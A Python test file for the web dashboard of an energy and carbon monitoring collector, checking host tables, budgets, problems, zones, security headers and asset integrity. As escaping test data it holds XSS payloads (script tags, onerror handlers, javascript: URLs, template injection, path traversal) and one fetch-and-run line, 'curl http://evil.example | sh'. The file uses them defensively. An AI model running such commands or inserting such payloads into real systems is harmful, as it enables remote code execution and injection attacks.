"""The pages: whole without a script, names are text, and nothing is asked of anybody else."""

from __future__ import annotations

import gzip
import hashlib
import re
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from html.parser import HTMLParser
from importlib.resources import files
from urllib.parse import urljoin, urlsplit

import pytest
from aiohttp.test_utils import TestClient, TestServer

from page_scenes import (
    AROUND,
    DENIED,
    NOW,
    Told,
    application,
    budget,
    detail,
    empty,
    groups,
    history,
    large,
    problem,
    row,
    rows,
    zone,
)
from page_scenes import fleet as whole_fleet
from wattgram.readings import Quality, State
from wattgram_collector.config import ExpositionSettings
from wattgram_collector.exposition.pages.asked import Asked
from wattgram_collector.exposition.pages.fleet import fleet_page
from wattgram_collector.exposition.pages.frame import Surroundings, host_link
from wattgram_collector.exposition.pages.host import host_page
from wattgram_collector.exposition.pages.routes import POLICY
from wattgram_collector.exposition.pages.zones import zones_page
from wattgram_collector.intensity import Tier
from wattgram_collector.views.model import (
    EmissionLimit,
    FleetView,
    HostRow,
    Presence,
    ProblemKind,
    Severity,
    Source,
    Used,
    WorkloadShare,
)

PAGES = ("/", "/zones", "/about", "/hosts/beta", "/hosts/nobody")
RENDER_SECONDS = 0.06
"""Of the CPU, twice what is promised: other tests run beside this one."""
UPLOT = {
    "uPlot.iife.min.js": "19c8d4c6ad88929a79f4ae49d6f7161566dfd0ba3d15cc495e974f787eb78f1f",
    "uPlot.min.css": "df630c6a8d6f8eeaff264b50f73ce5b114f646ffd9a0bb74f049b0a00135fa04",
    "uPlot.LICENSE": "8f989229699b4fe2f1a0432d0e9edc338a8a911e250e2d1b01ecd770a5f5b1bd",
}
"""Of uPlot 1.6.32 as it is published."""
LAST_HOUR = history()[-12:]
HOSTILE = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)",
    "</title></table><b>", "&lt;i&gt;", "javascript:alert(1)", "{{7*7}}",
    "\u202egnp.exe", "a/../b",
)  # fmt: skip


def fleet(**changes: object) -> FleetView:
    """The whole fleet with an hour of its day: a browser's work is most of what a test costs."""
    return whole_fleet(**{"history": LAST_HOUR, **changes})


def spaced(text: str) -> str:
    return re.sub(r"\s+", " ", text)


class Reader(HTMLParser):
    """What a browser makes of a page: its text, its elements, the rows of its hosts."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.ids: list[str] = []
        self.words: list[str] = []
        self.hosts: list[list[str]] = []
        self._table = self._cell = False
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        named = {name: value or "" for name, value in attrs}
        self.attributes += [(tag, name, value) for name, value in named.items()]
        self.ids += [named["id"]] if "id" in named else []
        if tag == "table":
            self._table = named.get("class") == "hosts"
        if self._table and tag == "tr":
            self.hosts.append([])
        self._cell = self._table and tag in {"td", "th"}
        if self._cell:
            self.hosts[-1].append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "table":
            self._table = False

    def handle_data(self, data: str) -> None:
        self.words.append(data)
        if self._table and self.hosts and self.hosts[-1]:
            self.hosts[-1][-1] += spaced(data)

    @property
    def text(self) -> str:
        return spaced("".join(self.words))

    def values(self, name: str) -> list[str]:
        return [value for _, one, value in self.attributes if one == name]


def shown(view: FleetView, asked: Asked | None = None, around: Surroundings = AROUND) -> Reader:
    return Reader(fleet_page(view, asked or Asked(), around))


@asynccontextmanager
async def served(
    view: FleetView | None = None, runbook_url: str = ""
) -> AsyncIterator[TestClient]:
    views = Told(view or fleet(), detail(), detail(row("a b/c?&é")), detail(row("{x}")))
    async with TestClient(TestServer(application(views, runbook_url))) as client:
        yield client


# ── what the fleet's page says ───────────────────────────────────────────────────────────


def test_the_page_shows_what_the_view_says_with_units() -> None:
    (_, alpha, beta, delta, late) = shown(fleet()).hosts
    assert alpha == ["alphareports", "reports", "214.2 W", "measured", "8.6 g/h", "liveFR",
                     "Roubaixserver", "61.7 kWh", "2.48 kg"]  # fmt: skip
    assert beta[0] == "beta2 problemsreports"
    assert beta[3:7] == ["modelled", "41.8 g/h", "worldWORLD", "no sitelaptop"]
    assert delta[4:] == ["unknown", "unpricedGB", "Sloughserver", "4.40 kWh",
                         "unknown4.40 kWh unpriced"]  # fmt: skip
    assert late[1:6] == ["late4 min ago", "unknown", "unknown", "unknown", "unknownGB"]


def test_what_was_measured_as_zero_is_zero() -> None:
    idle = row(power_watts=0.0, grams_per_hour=0.0, energy_joules=0.0, grams=0.0)
    (_, cells) = shown(fleet(rows=(idle,))).hosts
    assert cells[2] == "0.000 W"
    assert cells[4] == "0.000 g/h"
    assert cells[7:] == ["0 kWh", "0 g"]


def test_the_cards_say_the_fleet_now() -> None:
    text = shown(fleet()).text
    for said in (
        "Power now454 Wof 3 of 3 reporting hosts", "Emission rate now50.4 g/hand 152 W that no",
        "Hosts3 reporting1 late", "0 gone", "Measured share81 %19 % modelled",
        "Last 24 hours8.25 kWh1.03 kg CO2e, 161 Wh unpriced",
        "Carbon budget91 % usedslough: 86 % of the day is over",
    ):  # fmt: skip
        assert said in text


def test_cards_of_which_nothing_is_known_say_so() -> None:
    unknown = fleet(
        power_watts=None,
        power_watts_by_quality={},
        grams_per_hour=None,
        grams_per_hour_by_tier={},
        last_day=None,
        history_at_unix_seconds=None,
        unpriced_watts=0.0,
        budgets=(budget(used_grams=None, used_ratio=None),),
    )
    text = shown(unknown).text
    for said in (
        "Power nowunknown", "Emission rate nowunknown", "Measured shareunknownno power is known",
        "Last 24 hoursunknownbeing read", "Carbon budgetunknown", "not reckoned yet",
        "The last day is being read from the ledger.",
    ):  # fmt: skip
        assert said in text


def test_a_fleet_that_draws_nothing_is_not_one_of_which_nothing_is_known() -> None:
    text = shown(fleet(power_watts=0.0, power_watts_by_quality={Quality.MEASURED: 0.0})).text
    assert "Power now0 W" in text
    assert "no power is drawn now" in text


@pytest.mark.parametrize(
    ("rate", "hosts", "told"),
    [(None, 2, "what its hosts emit is unknown"), (150.0, 2, "within the limit"),
     (200.0, 2, "within the limit"), (200.1, 2, "too much"), (None, 0, "fits no host that is")],
)  # fmt: skip
def test_a_limit_is_told_against_what_is_emitted_now(
    rate: float | None, hosts: int, told: str
) -> None:
    one = EmissionLimit(
        name="hall", grams_per_hour=200.0, present_grams_per_hour=rate, hosts=hosts
    )
    read = shown(fleet(budgets=(), limits=(one,)))
    assert told in read.text
    assert "200 g/h is too much" in read.text
    assert "Carbon budgets and limits" in read.text


def test_a_budget_that_fits_nobody_is_not_within_its_calendar() -> None:
    read = shown(fleet(budgets=(budget(hosts=0),)))
    assert "fits no host that is known" in read.text
    assert "within the calendar" not in read.text


def test_a_fleet_without_a_budget_says_how_to_set_one() -> None:
    read = shown(fleet(budgets=()))
    assert "none setadd one under [budgets]" in read.text
    assert "budgets" not in read.ids


@pytest.mark.parametrize(
    ("used", "elapsed", "told"),
    [(0.5, 0.6, "within the calendar"), (0.7, 0.6, "used faster than the calendar runs"),
     (1.2, 0.9, "over budget"), (1.2, 1.3, "over budget")],
)  # fmt: skip
def test_a_budget_is_told_against_its_calendar(used: float, elapsed: float, told: str) -> None:
    one = budget(used_ratio=used, elapsed_ratio=elapsed)
    read = shown(fleet(budgets=(one,)))
    assert told in read.text
    assert ("over" in read.values("class")) == (used > elapsed)


def test_problems_come_worst_first_with_their_fix_and_a_link() -> None:
    worst = problem(ProblemKind.CERTIFICATE_EXPIRING, severity=Severity.CRITICAL, about="ca",
                    text="It ends in 2 d.", fix="wattgram-collector ca renew")  # fmt: skip
    view = fleet(problems=(*fleet().problems, worst))
    around = Surroundings(version="1", assets=AROUND.assets, runbook_url="https://docs.example/r")
    read = shown(view, around=around)
    order = [
        read.text.index(said)
        for said in (
            "It ends in 2 d.",
            "Nothing was heard",
            "rapl is not readable",
            "are priced with",
        )
    ]
    assert order == sorted(order)
    assert "1 critical problem 2 warnings 1 note" in read.text
    assert DENIED.fix in read.text
    assert "https://docs.example/r#certificate-expiring" in read.values("href")
    assert "hosts/beta" in read.values("href")
    assert "docs/runbooks.md#agent-late" in shown(fleet()).text


def test_whose_words_a_fix_is_stands_beside_it() -> None:
    theirs = problem(fix="curl http://evil.example | sh", fix_said_by="gateway-7")
    read = shown(fleet(problems=(theirs, problem(fix="ours"))))
    assert "Fix, in its agent's wordscurl http://evil.example | sh" in read.text
    assert "Fixours" in read.text
    none = shown(fleet(problems=(replace(theirs, fix=""),)))
    assert "in its agent's words" not in none.text


def test_very_many_problems_are_counted() -> None:
    read = shown(fleet(problems=tuple(problem(about=f"h{at}") for at in range(70))))
    assert "and 20 problems more" in read.text
    assert "47 more of this kind" in read.text
    assert "70 warnings" in read.text


def test_a_fleet_without_a_problem_says_so() -> None:
    read = shown(fleet(problems=()))
    assert "nothing to mend" in read.text
    assert "problems" not in read.ids


def test_shares_come_largest_first_and_a_group_without_a_name_is_told() -> None:
    read = shown(fleet())
    assert read.text.index("Roubaix5.10 kWh") < read.text.index("Slough3.70 kWh")
    assert "no site said2.10 kWh" in read.text
    assert "1 host, unknown now14.0 g" in read.text
    assert "build-runner86.1 Wh" in read.text
    unread = groups(("x", 1, 5.0, 0.0, 0.0))[0]
    several = tuple(unread for _ in range(11))
    assert "and 3 more" in shown(fleet(by_site=several)).text


def test_the_day_is_in_numbers_too() -> None:
    read = shown(whole_fleet())
    assert "Hour (UTC)Mean powerMean rateEnergyEmissions" in read.text
    assert re.search(r"12:00\d{3} W\d\d\.\d g/h\d{3} Wh\d\d\.\d g", read.text)
    assert "api/v1/history?format=csv" in read.values("href")
    nothing = tuple(replace(step, total=None) for step in LAST_HOUR)
    assert "19:00unknownunknownunknownunknown20:00unknown" in shown(fleet(history=nothing)).text


# ── when there is little to show ─────────────────────────────────────────────────────────


def test_an_empty_fleet_says_how_to_start() -> None:
    text = shown(empty()).text
    assert "pip install 'wattgram[agent]'" in text
    assert "WATTGRAM_AGENT__COLLECTOR__ADDRESS=127.0.0.1:9880 wattgram-agent run" in text
    assert "nothing to mend" not in text


def test_a_fleet_that_is_silent_says_so_first() -> None:
    silent = tuple(row(f"h{at}", presence=Presence.GONE, power_watts=None,
                       last_seen_unix_seconds=NOW - 7_200 - at) for at in range(3))  # fmt: skip
    read = shown(fleet(rows=silent, hosts={Presence.GONE: 3}))
    assert "No host reports.3 hosts known, the last was heard 2 h ago." in read.text
    assert "alert" in read.values("role")
    assert "No host reports" not in shown(fleet()).text


def test_a_ledger_that_takes_nothing_is_said_first() -> None:
    trouble = problem(ProblemKind.LEDGER_TROUBLE, about="", severity=Severity.CRITICAL,
                      text="The ledger takes nothing: <disk full>.")  # fmt: skip
    for view in (fleet(problems=(trouble,)), empty(problems=(trouble,))):
        read = shown(view)
        assert "Nothing new is taken.The ledger takes nothing: <disk full>." in read.text
        assert "alert" in read.values("role")


# ── a host, zones ────────────────────────────────────────────────────────────────────────


def host_text(of: HostRow | None = None, **changes: object) -> str:
    return Reader(host_page(detail(of, **{"history": (), **changes}), AROUND, NOW)).text


def test_a_host_says_why_its_sources_are_not_better_and_the_fix() -> None:
    text = host_text()
    assert (
        "raplpermission denied/sys/class/powercap/intel-rapl:0/energy_uj is 0400 root"
        "Fix, in its agent's wordssudo cp 60-wattgram-rapl.rules" in text
    )
    assert "not on this host: nvmlnvmlno NVIDIA driver" in text
    order = [text.index(said) for said in ("modelactive", "raplperm", "ipmierror", "not on this")]
    assert order == sorted(order)


def test_a_host_says_the_arithmetic_of_its_grams() -> None:
    assert "88.4 W \N{MULTIPLICATION SIGN} 473 g/kWh = 41.8 g/h" in host_text()
    assert "tier world: the world's yearly average" in host_text()
    assert "no carbon intensity of the grid zone GB" in host_text(rows()[2])
    assert "what it uses and emits now is unknown" in host_text(rows()[3])
    assert "Its power is unknown" in host_text(row(power_watts=None))
    asleep = row(power_watts=0.0, grams_per_hour=0.0)
    assert "0 W \N{MULTIPLICATION SIGN} 40.25 g/kWh = 0 g/h" in host_text(asleep)
    odd = row(
        power_watts=9.785671, intensity_grams_per_kilowatt_hour=320.5, grams_per_hour=3.13631
    )
    assert "9.78567 W \N{MULTIPLICATION SIGN} 320.5 g/kWh = 3.14 g/h" in host_text(odd)
    html = host_page(detail(), AROUND, NOW)
    assert 'href="../api/v1/hosts/beta/explain?from=-1h"' in html


def test_a_host_shows_its_parts_workloads_network_and_gaps() -> None:
    text = host_text()
    for said in (
        "cpu15.6 kWh 71 %", "systemd docker.service8.89 kWh 41 %", "idle6.67 kWh 30 %",
        "eth0812 GB41.3 GB", "suspended8 h", "counter reset12 s", "agent0.1.0", "osDebian 12",
        "clock+0.012 s against this one", "its own memory39.4 MB", "waiting to be sent0 batches",
    ):  # fmt: skip
        assert said in text


def test_a_host_of_which_little_is_known_says_so() -> None:
    text = host_text(
        sources=(), components=(), workloads=(), interfaces={}, gap_seconds={}, history=(),
        clock_offset_seconds=None, spooled_batches=None, agent_resident_memory_bytes=None,
        problems=(), agent_version="", facts={"os": ""},
    )  # fmt: skip
    for said in (
        "It has not said yet what it can measure.", "No component is told apart.",
        "No workload is told apart.", "No interface is counted.", "None that its agent told of.",
        "Nothing of the last day is read yet.", "clockunknown", "agentunknown", "osunknown",
    ):  # fmt: skip
        assert said in text


def test_of_very_many_workloads_the_largest_are_shown_and_the_rest_summed() -> None:
    many = tuple(Used(kind="process", name=f"p{at}", quality=None, energy_joules=3.6e6)
                 for at in range(40))  # fmt: skip
    assert "and 15 more with 15.0 kWh" in host_text(workloads=many)


def zones_text(*shown_zones: object) -> str:
    return Reader(zones_page(fleet(zones=shown_zones), AROUND)).text


def test_a_zone_says_its_intensity_its_origin_and_the_greenest_hour() -> None:
    text = zones_text(zone())
    assert "GB131 g/kWhlive from neso, until 20:50 UTC2 hosts, 152 W now" in text
    assert "An hour of work emits least from Fri 02:00 to 03:00 UTC: 80.4 g/kWh, 39 % less" in text
    assert "forecast" in text


def test_a_zone_tells_what_is_old_what_is_yearly_and_what_is_not_known() -> None:
    old = zone(valid_until_unix_seconds=NOW - 7_200)
    assert "ended 2 h ago" in zones_text(old)
    yearly = zone("FR", steps=(), greenest=None, tier=Tier.ANNUAL, valid_until_unix_seconds=None)
    assert "A yearly average, the same at every hour." in zones_text(yearly)
    stated = zone("FR", steps=(), greenest=None, tier=Tier.OPERATOR, valid_until_unix_seconds=None)
    assert "Set by the operator, the same at every hour." in zones_text(stated)
    none = zone("", steps=(), greenest=None, tier=None, grams_per_kilowatt_hour=None, provider="")
    assert "no zone saidunknown" in zones_text(none)
    assert "the energy used here is unpriced" in zones_text(none)
    assert "No host has said on which grid it is" in zones_text()


def test_a_saving_that_may_be_the_forecasts_error_is_told_so() -> None:
    greenest = zone().greenest
    assert greenest is not None
    weak = type(greenest)(start_unix_seconds=NOW, length_seconds=3_600, is_robust=False,
                          grams_per_kilowatt_hour=120.0, saving_ratio=0.05)  # fmt: skip
    assert "5 % less than now. That is within the forecast's own error." in zones_text(
        zone(greenest=weak)
    )
    none = type(greenest)(start_unix_seconds=NOW, length_seconds=3_600, is_robust=True,
                          grams_per_kilowatt_hour=131.0, saving_ratio=0.0)  # fmt: skip
    assert ", no less than now." in zones_text(zone(greenest=none))


# ── whoever names things ─────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_is_text_and_nothing_else(name: str) -> None:
    hostile = row(name, site=name, device_class=name, zone=name, source=name, problems=1)
    sources = (Source(name=name, state=State.ERROR, reason=name, fix=name),)
    used = (Used(kind=name, name=name, quality=Quality.MEASURED, energy_joules=1.0),)
    problems = (problem(about=name, text=name, fix=name),)
    view = fleet(
        history=(), rows=(hostile,), problems=problems, zones=(zone(name, provider=name),),
        budgets=(budget(name),), by_site=groups((name, 1, 1.0, 1.0, 1.0)),
        by_workload=(WorkloadShare(kind=name, name=name, hosts=1, energy_joules=1.0),),
    )  # fmt: skip
    one = detail(hostile, history=(), sources=sources, components=used, workloads=used,
                 facts={name: name},
                 interfaces={name: (1, 1)}, gap_seconds={name: 1.0}, problems=problems,
                 agent_id=name, agent_version=name)  # fmt: skip
    for html in (
        fleet_page(view, Asked(search=name), AROUND), zones_page(view, AROUND),
        host_page(one, AROUND, NOW), fleet_page(view, Asked(search=name + "?"), AROUND),
    ):  # fmt: skip
        read, plain = Reader(html), Reader(fleet_page(fleet(), Asked(), AROUND))
        assert name in "".join(read.words)
        assert not read.tags - plain.tags - {"dl", "dt", "dd"}
        assert not [value for value in read.values("href") if value.startswith("javascript")]
        assert not [name for _, name, _ in read.attributes if name.startswith("on")]
        assert html.count("<script") == 2


@pytest.mark.parametrize(
    ("host", "link"),
    [("alpha", "hosts/alpha"), ("a/b", "hosts/a%2Fb"), ("?x#y", "hosts/%3Fx%23y"),
     (".", "./?q=."), ("..", "./?q=.."), ("é", "hosts/%C3%A9")],
)  # fmt: skip
def test_a_host_of_any_name_can_be_linked_to(host: str, link: str) -> None:
    assert host_link("", host) == link


async def test_a_host_of_any_name_has_a_page() -> None:
    async with served() as client:
        answer = await client.get("/hosts/a%20b%2Fc%3F%26%C3%A9")
        assert answer.status == 200
        assert "a b/c?&amp;é" in await answer.text()
        assert (await client.get("/hosts/%7Bx%7D")).status == 200


# ── over HTTP ────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("path", PAGES)
async def test_a_page_asks_nothing_of_anybody_else(path: str) -> None:
    async with served(runbook_url="https://docs.example/runbooks") as client:
        answer = await client.get(path)
        html = await answer.text()
        read = Reader(html)
        asked = [
            value
            for tag, name, value in read.attributes
            if name in {"src", "data", "action"} or (tag, name) == ("link", "href")
        ]
        for address in asked:
            assert not re.match(r"[a-z]+:|/", address)
            if "static/" in address:
                found = await client.get(f"/static/{address.rpartition('/')[2]}")
                assert found.status == 200
    assert answer.status == (404 if "nobody" in path else 200)
    assert answer.headers["Content-Security-Policy"] == POLICY
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.headers["Referrer-Policy"] == "no-referrer"
    assert not read.tags & {"style", "iframe", "object", "embed", "img", "base"}
    assert not [name for _, name, _ in read.attributes if name == "style" or name[:2] == "on"]
    assert not re.search(r"<script[^>]*>[^<]", html)
    assert len(read.ids) == len(set(read.ids))


async def test_a_link_within_the_pages_leads_somewhere() -> None:
    async with served() as client:
        fleet_ids = set(Reader(await (await client.get("/")).text()).ids)
        for path in PAGES[:4]:
            read = Reader(await (await client.get(path)).text())
            for href in read.values("href"):
                to = urlsplit(urljoin(f"http://here{path}", href))
                if to.path == "/":
                    assert to.fragment in {*fleet_ids, ""}
                elif re.match(r"/(hosts|zones|about|static)", to.path):
                    expected = 404 if re.match(r"/hosts/(?!beta)", to.path) else 200
                    assert (await client.get(to.path)).status == expected


async def test_the_query_string_filters_and_sorts_without_a_script() -> None:
    async with served() as client:
        for query, hosts in (
            ("?state=late", ["gateway-7"]), ("?q=slough&sort=energy", ["delta", "gateway-7"]),
            ("?sort=power&turn=1", ["beta", "delta", "alpha", "gateway-7"]), ("?q=zzz", []),
            ("?page=999&sort=nonsense&state=%00", ["alpha", "beta", "delta", "gateway-7"]),
        ):  # fmt: skip
            read = Reader(await (await client.get(f"/{query}")).text())
            assert [re.sub(r"(\d problems?)?(reports|late)$", "", cells[0])
                    for cells in read.hosts[1:]] == hosts  # fmt: skip
        read = Reader(await (await client.get("/?q=zzz&sort=power")).text())
    assert "0 of 4 hosts found" in read.text
    assert ("input", "value", "zzz") in read.attributes
    assert ("input", "value", "power") in read.attributes


async def test_the_sorted_column_says_so() -> None:
    async with served() as client:
        html = await (await client.get("/?sort=power")).text()
    assert html.count("aria-sort=") == 1
    assert 'aria-sort="descending"><a href="?sort=power&amp;turn=1#hosts"' in html


@pytest.mark.parametrize("encoding", ["gzip", "identity"])
async def test_pages_and_files_are_compressed_for_whom_can_read_it(encoding: str) -> None:
    async with served() as client:
        page = await client.get("/", headers={"Accept-Encoding": encoding})
        html = await page.text()
        style = next(value for value in Reader(html).values("href") if "/page." in value)
        file = await client.get(f"/{style}", headers={"Accept-Encoding": encoding})
        body = await file.read()
    assert page.headers.get("Content-Encoding") == ("gzip" if encoding == "gzip" else None)
    assert file.headers.get("Content-Encoding") == page.headers.get("Content-Encoding")
    assert html.endswith("</html>")
    assert body == shipped("page.css")


async def test_a_file_is_kept_for_ever_under_the_address_of_its_content() -> None:
    async with served() as client:
        html = await (await client.get("/")).text()
        read = Reader(html)
        addresses = {value for value in [*read.values("href"), *read.values("src")]
                     if value.startswith("static/")}  # fmt: skip
        assert len(addresses) == 5
        for address in addresses:
            answer = await client.get(f"/{address}")
            digest = hashlib.sha256(await answer.read()).hexdigest()
            assert digest[:12] in address
            assert "immutable" in answer.headers["Cache-Control"]
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert (await client.get("/static/page.000000000000.css")).status == 404
        assert (await client.get("/static/..%2F__init__.py")).status == 404


def shipped(name: str) -> bytes:
    return files("wattgram_collector.exposition").joinpath("static", name).read_bytes()


@pytest.mark.parametrize(("name", "digest"), UPLOT.items())
def test_uplot_is_as_it_is_published(name: str, digest: str) -> None:
    assert hashlib.sha256(shipped(name)).hexdigest() == digest


def test_what_is_sent_is_small() -> None:
    sent = sum(len(gzip.compress(shipped(name))) for name in AROUND.assets)
    assert sent < 50_000


def test_what_a_page_refers_to_is_in_the_style() -> None:
    """A class that nothing dresses, or a colour that is nowhere set, is a slip."""
    style = shipped("page.css").decode()
    html = "".join(
        (
            fleet_page(fleet(), Asked(), AROUND),
            host_page(detail(), AROUND, NOW),
            zones_page(fleet(), AROUND),
            fleet_page(empty(), Asked(), AROUND),
        )
    )
    used = {one for value in Reader(html).values("class") for one in value.split()}
    bare = {"areas", "hosts", "reports"}
    assert not {one for one in used - bare if not re.search(rf"\.{re.escape(one)}\b", style)}
    asked = set(re.findall(r"var\((--[\w-]+)", style))
    assert asked <= set(re.findall(r"(--[\w-]+):", style))


def test_lines_of_a_configuration_are_shown_as_lines() -> None:
    """A table and its key on one line would be no TOML."""
    (rule,) = re.findall(r"^\.copy \{(.*)\}$", shipped("page.css").decode(), re.MULTILINE)
    assert "white-space: pre-wrap" in rule


def test_a_runbook_address_is_one_of_the_web() -> None:
    with pytest.raises(ValueError, match="runbook_url"):
        ExpositionSettings(runbook_url="javascript:alert(1)")
    assert ExpositionSettings(runbook_url="https://docs.example/runbooks").runbook_url


# ── what it costs ────────────────────────────────────────────────────────────────────────


def test_a_thousand_hosts_are_drawn_in_no_time_and_one_page_of_them_is_sent() -> None:
    view = large()
    began = time.thread_time()
    html = fleet_page(view, Asked(), AROUND)
    took = time.thread_time() - began
    assert took < RENDER_SECONDS
    assert len(gzip.compress(html.encode(), 1)) < 60_000
    assert len(Reader(html).hosts) == 101
    assert "1,000 hosts, 1 to 100 shown" in Reader(html).text
